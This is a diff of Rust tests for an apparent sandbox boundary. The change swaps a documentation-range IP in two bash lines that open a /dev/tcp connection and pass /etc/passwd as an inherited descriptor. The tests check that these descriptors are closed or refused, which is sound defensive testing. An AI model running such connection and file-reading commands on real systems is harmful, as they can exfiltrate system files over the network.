@@ -13,7 +13,7 @@ use crate::world::needs::{cgroup2, needs};
 fn a13_inherited_descriptors_are_closed() {
     needs!(root, bpf, bash);
     let world = World::new();
-    let script = "exec 3<>/dev/tcp/203.0.113.66/80 7</etc/passwd; exec \"$@\"";
+    let script = "exec 3<>/dev/tcp/203.0.113.10/80 7</etc/passwd; exec \"$@\"";
     let inner = world.boundary(&ALLOW, &[world.attack(), "fds"]);
     let out = inner.under(&["bash", "-c", script, "--"]).output();
     out.succeeded();
@@ -24,7 +24,7 @@ fn a13_inherited_descriptors_are_closed() {
 fn a13_standard_input_that_is_a_connection_is_refused() {
     needs!(root, bpf, bash);
     let world = World::new();
-    let script = "exec 0<>/dev/tcp/203.0.113.66/80; exec \"$@\"";
+    let script = "exec 0<>/dev/tcp/203.0.113.10/80; exec \"$@\"";
     let inner = world.boundary(&ALLOW, &["sh", "-c", "echo leaked >&0"]);
     let out = inner.under(&["bash", "-c", script, "--"]).output();
     out.exits(125);
